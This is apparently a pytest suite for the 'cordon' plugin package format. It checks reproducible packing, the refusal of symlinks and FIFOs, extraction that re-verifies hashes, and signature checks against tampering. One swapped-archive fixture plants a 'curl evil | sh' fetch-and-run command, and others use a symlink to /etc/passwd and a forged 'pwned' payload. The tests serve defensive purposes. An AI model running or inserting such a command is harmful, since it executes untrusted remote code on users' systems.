"""The ``.cordon`` package: pack is reproducible and refuses what it must not follow, a package
round-trips byte for byte, extract writes only re-verified bytes, and signatures identify the
key that made them (trusting it is the installer's call)."""

from __future__ import annotations

import os
import random
import shutil
import stat
import zipfile
import zlib
from pathlib import Path

import msgspec
import pytest

from cordon.runtime._errors import ManifestError
from cordon.runtime._packages._archive import (
    FILES_NAME,
    SIGNATURE_NAME,
    open_package,
    pack,
)
from cordon.runtime._packages._archive import extract as extract_package
from cordon.runtime._packages._errors import PackageInvalid, SignatureInvalid
from cordon.runtime._packages._keys import new_key, sign
from cordon.runtime._packages._lock import Lock, LockedWheel, write_lock

from .archives import MANIFEST, base_files, make_plugin, read_entries, write_package


@pytest.fixture
def plugin(tmp_path: Path) -> Path:
    return make_plugin(tmp_path / "greeter")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


def tree(root: Path) -> dict[str, tuple[bytes, int]]:
    return {
        p.relative_to(root).as_posix(): (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


# -- pack ----------------------------------------------------------------------------------------


def test_a_package_round_trips_to_byte_identical_files_with_their_modes(
    plugin: Path, out: Path, tmp_path: Path
) -> None:
    path = pack(plugin, out)
    assert path == out / "greeter-1.2.0.cordon"
    pkg = open_package(path)
    assert (pkg.plugin_id, pkg.version, pkg.signer, pkg.lock) == ("greeter", "1.2.0", None, None)
    assert pkg.manifest_text == (plugin / "plugin.toml").read_text()
    extract_package(pkg, tmp_path / "installed")
    got = tree(tmp_path / "installed")
    assert {k: v[0] for k, v in got.items()} == {k: v[0] for k, v in tree(plugin).items()}
    assert got["bin/tool.sh"][1] == 0o755
    assert got["greeter.py"][1] == 0o644
    assert stat.S_IMODE((tmp_path / "installed" / "bin").stat().st_mode) == 0o755


def test_packing_twice_gives_the_same_bytes(plugin: Path, tmp_path: Path) -> None:
    first = pack(plugin, tmp_path / "a").read_bytes()
    second = pack(plugin, tmp_path / "b").read_bytes()
    assert first == second


def test_a_copy_with_other_mtimes_and_umask_packs_to_the_same_bytes(
    plugin: Path, tmp_path: Path
) -> None:
    copy = make_plugin(tmp_path / "elsewhere" / "greeter", umask=0o077)
    for p in copy.rglob("*"):
        os.utime(p, (1_700_000_000, 1_700_000_000))
    assert stat.S_IMODE((copy / "greeter.py").stat().st_mode) == 0o600
    assert pack(plugin, tmp_path / "a").read_bytes() == pack(copy, tmp_path / "b").read_bytes()


def test_the_zip_has_sorted_entries_fixed_times_and_no_extra_fields(
    plugin: Path, out: Path
) -> None:
    # Varied text, where zlib's levels give different streams (tiny files would not tell).
    rng = random.Random(7)
    words = ("alpha", "beta", "plugin", "cordon", "sandbox", "worker")
    text = " ".join(f"{rng.choice(words)}{rng.randrange(50)}" for _ in range(20_000))
    (plugin / "data" / "corpus.txt").write_text(text)
    path = pack(plugin, out)
    blob = path.read_bytes()
    with zipfile.ZipFile(path) as z:
        infos = z.infolist()
        contents = {i.filename: z.read(i) for i in infos}
    names = [i.filename for i in infos]
    assert names == sorted(names)
    assert FILES_NAME in names
    for info in infos:
        assert info.date_time == (1980, 1, 1, 0, 0, 0)
        assert info.extra == b""
        assert info.compress_type == zipfile.ZIP_DEFLATED
        assert stat.S_ISREG(info.external_attr >> 16)
        # The stored stream is zlib's at level 9 exactly: the level is part of the format.
        start = info.header_offset + 30 + len(info.filename.encode())
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        expected = co.compress(contents[info.filename]) + co.flush()
        assert blob[start : start + info.compress_size] == expected


def test_pack_skips_caches_and_dot_files_but_keeps_the_lock(plugin: Path, out: Path) -> None:
    (plugin / "__pycache__").mkdir()
    (plugin / "__pycache__" / "greeter.cpython-311.pyc").write_bytes(b"\0")
    (plugin / "stale.pyc").write_bytes(b"\0")
    (plugin / ".git").mkdir()
    (plugin / ".git" / "config").write_text("[core]\n")
    (plugin / ".env").write_text("TOKEN=secret\n")
    lock = Lock(
        python="3.11",
        platform="linux-x86_64",
        requirements=("cordonlib>=1",),
        wheels=(LockedWheel("cordonlib", "1.0", "cordonlib-1.0-py3-none-any.whl", "a" * 64),),
    )
    write_lock(plugin, lock)
    pkg = open_package(pack(plugin, out))
    assert [f.path for f in pkg.files] == [
        "bin/tool.sh",
        "data/words.txt",
        "greeter.py",
        "plugin.lock",
        "plugin.toml",
    ]
    assert pkg.lock == lock


@pytest.mark.parametrize("out_name", ["dist", "."])
def test_pack_never_packs_earlier_packages_from_its_output_folder(
    plugin: Path, out_name: str
) -> None:
    first = pack(plugin, plugin / out_name).read_bytes()
    again = pack(plugin, plugin / out_name)
    assert again.read_bytes() == first
    assert all(not f.path.endswith(".cordon") for f in open_package(again).files)


def test_pack_refuses_a_symlink_naming_it_and_writes_nothing(plugin: Path, out: Path) -> None:
    (plugin / "data" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(PackageInvalid) as info:
        pack(plugin, out)
    assert info.value.entry == "data/passwd"
    assert "symbolic link" in str(info.value)
    assert not out.exists() or not list(out.iterdir())


def test_pack_refuses_a_fifo_in_the_plugin(plugin: Path, out: Path) -> None:
    os.mkfifo(plugin / "pipe")
    with pytest.raises(PackageInvalid) as info:
        pack(plugin, out)
    assert info.value.entry == "pipe"


def test_pack_refuses_names_that_collide_on_a_case_insensitive_disk(
    plugin: Path, out: Path
) -> None:
    (plugin / "Greeter.py").write_text("x = 1\n")
    with pytest.raises(PackageInvalid) as info:
        pack(plugin, out)
    assert info.value.entry in ("Greeter.py", "greeter.py")
    assert "collides" in str(info.value)


def test_pack_reports_a_broken_manifest_as_its_manifest_error(plugin: Path, out: Path) -> None:
    (plugin / "plugin.toml").write_text('[plugin]\nid = "Not Valid"\n')
    with pytest.raises(ManifestError):
        pack(plugin, out)
    assert not out.exists()


def test_pack_replaces_an_older_package_atomically_and_leaves_no_temp_file(
    plugin: Path, out: Path
) -> None:
    out.mkdir()
    (out / "greeter-1.2.0.cordon").write_bytes(b"old")
    path = pack(plugin, out)
    assert sorted(p.name for p in out.iterdir()) == ["greeter-1.2.0.cordon"]
    assert open_package(path).plugin_id == "greeter"


# -- manifest and lock inside the archive --------------------------------------------------------


def test_the_manifest_wins_over_the_file_name(plugin: Path, out: Path, tmp_path: Path) -> None:
    renamed = tmp_path / "something-9.9.cordon"
    shutil.copy(pack(plugin, out), renamed)
    pkg = open_package(renamed)
    assert (pkg.plugin_id, pkg.version) == ("greeter", "1.2.0")


def test_an_invalid_manifest_in_the_archive_is_refused_with_its_problems(tmp_path: Path) -> None:
    files = {"plugin.toml": b'[plugin]\nid = "greeter"\n', "greeter.py": b""}
    with pytest.raises(PackageInvalid) as info:
        open_package(write_package(tmp_path / "p.cordon", files))
    assert info.value.entry == "plugin.toml"
    assert "plugin.version" in str(info.value)


def test_a_manifest_whose_entry_module_is_not_in_the_archive_is_refused(tmp_path: Path) -> None:
    files = {"plugin.toml": MANIFEST.encode(), "other.py": b""}
    with pytest.raises(PackageInvalid) as info:
        open_package(write_package(tmp_path / "p.cordon", files))
    assert info.value.entry == "plugin.toml"
    assert "greeter" in str(info.value)


def test_a_lock_that_does_not_parse_is_refused(tmp_path: Path) -> None:
    files = base_files() | {"plugin.lock": b'{"format": 1, "wheels": [{"name": 3}]}'}
    with pytest.raises(PackageInvalid) as info:
        open_package(write_package(tmp_path / "p.cordon", files))
    assert info.value.entry == "plugin.lock"


# -- extract ---------------------------------------------------------------------------------------


@pytest.fixture
def packed(plugin: Path, out: Path) -> Path:
    return pack(plugin, out)


def test_extract_refuses_a_destination_that_is_not_empty(packed: Path, tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "keep.txt").write_text("mine")
    with pytest.raises(FileExistsError):
        extract_package(open_package(packed), dest)
    assert [p.name for p in dest.iterdir()] == ["keep.txt"]


def test_extract_refuses_a_destination_that_is_a_symlink(packed: Path, tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    (tmp_path / "dest").symlink_to(target)
    with pytest.raises(FileExistsError):
        extract_package(open_package(packed), tmp_path / "dest")
    assert list(target.iterdir()) == []


def test_extract_ignores_the_umask(packed: Path, tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        extract_package(open_package(packed), tmp_path / "dest")
    finally:
        os.umask(old)
    modes = {k: v[1] for k, v in tree(tmp_path / "dest").items()}
    assert modes == {
        "bin/tool.sh": 0o755,
        "data/words.txt": 0o644,
        "greeter.py": 0o644,
        "plugin.toml": 0o644,
    }


def test_an_archive_replaced_after_verification_places_nothing(
    packed: Path, tmp_path: Path
) -> None:
    pkg = open_package(packed)
    # A consistent package with other bytes (its own correct file list) swapped in.
    entries = read_entries(packed)
    files = {k: v for k, v in entries.items() if k != FILES_NAME}
    files["greeter.py"] = b"import os; os.system('curl evil | sh')\n"
    swapped = write_package(tmp_path / "swapped.cordon", files)
    os.replace(swapped, packed)
    for dest in (tmp_path / "new", tmp_path / "empty"):
        if dest.name == "empty":
            dest.mkdir()
        with pytest.raises(PackageInvalid) as info:
            extract_package(pkg, dest)
        assert "changed since it was verified" in str(info.value)
        assert not dest.exists() or list(dest.iterdir()) == []


def test_a_file_whose_bytes_differ_from_the_verified_hash_is_never_left_on_disk(
    packed: Path, tmp_path: Path
) -> None:
    pkg = open_package(packed)
    # Same archive, but the verified record of one file (after others were written) differs:
    # what a change between the archive hash and the file read would look like.
    files = list(pkg.files)
    i = next(k for k, f in enumerate(files) if f.path == "greeter.py")
    files[i] = msgspec.structs.replace(files[i], sha256="0" * 64)
    tampered = msgspec.structs.replace(pkg, files=tuple(files))
    with pytest.raises(PackageInvalid) as info:
        extract_package(tampered, tmp_path / "dest")
    assert info.value.entry == "greeter.py"
    assert not (tmp_path / "dest").exists()


# -- signatures ------------------------------------------------------------------------------------


@pytest.fixture
def key(tmp_path: Path) -> tuple[Path, str]:
    path = tmp_path / "keys" / "publisher.pem"
    path.parent.mkdir()
    return path, new_key(path)


def test_a_signed_package_verifies_and_names_its_signer(
    plugin: Path, out: Path, key: tuple[Path, str]
) -> None:
    path = pack(plugin, out, signing_key=key[0])
    assert SIGNATURE_NAME in read_entries(path)
    assert open_package(path).signer == key[1]


def test_an_unsigned_package_has_no_signer(packed: Path) -> None:
    assert open_package(packed).signer is None


def test_a_tampered_file_list_under_the_old_signature_is_refused(
    plugin: Path, out: Path, key: tuple[Path, str], tmp_path: Path
) -> None:
    entries = read_entries(pack(plugin, out, signing_key=key[0]))
    files = {k: v for k, v in entries.items() if k not in (FILES_NAME, SIGNATURE_NAME)}
    files["greeter.py"] = b"def plugin():\n    return 'pwned'\n"
    forged = write_package(
        tmp_path / "forged.cordon", files, meta={SIGNATURE_NAME: entries[SIGNATURE_NAME]}
    )
    with pytest.raises(SignatureInvalid) as info:
        open_package(forged)
    assert info.value.key == key[1]


def test_a_signature_by_another_key_reports_that_key(
    packed: Path, key: tuple[Path, str], tmp_path: Path
) -> None:
    other = tmp_path / "keys" / "other.pem"
    other_id = new_key(other)
    entries = read_entries(packed)
    files = {k: v for k, v in entries.items() if k != FILES_NAME}
    public, signature = sign(entries[FILES_NAME], other)
    sig = msgspec.json.encode({"key": public, "signature": signature})
    resigned = write_package(
        tmp_path / "resigned.cordon",
        files,
        listing=entries[FILES_NAME],
        meta={SIGNATURE_NAME: sig},
    )
    assert open_package(resigned).signer == other_id != key[1]


def test_a_signature_claiming_one_key_but_made_by_another_is_refused(
    packed: Path, key: tuple[Path, str], tmp_path: Path
) -> None:
    entries = read_entries(packed)
    other = tmp_path / "keys" / "other.pem"
    new_key(other)
    _, signature = sign(entries[FILES_NAME], other)
    sig = msgspec.json.encode({"key": key[1], "signature": signature})
    files = {k: v for k, v in entries.items() if k != FILES_NAME}
    claimed = write_package(
        tmp_path / "c.cordon", files, listing=entries[FILES_NAME], meta={SIGNATURE_NAME: sig}
    )
    with pytest.raises(SignatureInvalid):
        open_package(claimed)


@pytest.mark.parametrize(
    "body",
    [b"not json", b'{"key": "ed25519:AAAA", "signature": ""}', b'{"key": 1}', b"[]"],
)
def test_a_malformed_signature_file_is_refused(packed: Path, tmp_path: Path, body: bytes) -> None:
    entries = read_entries(packed)
    files = {k: v for k, v in entries.items() if k != FILES_NAME}
    bad = write_package(
        tmp_path / "b.cordon", files, listing=entries[FILES_NAME], meta={SIGNATURE_NAME: body}
    )
    with pytest.raises(SignatureInvalid):
        open_package(bad)
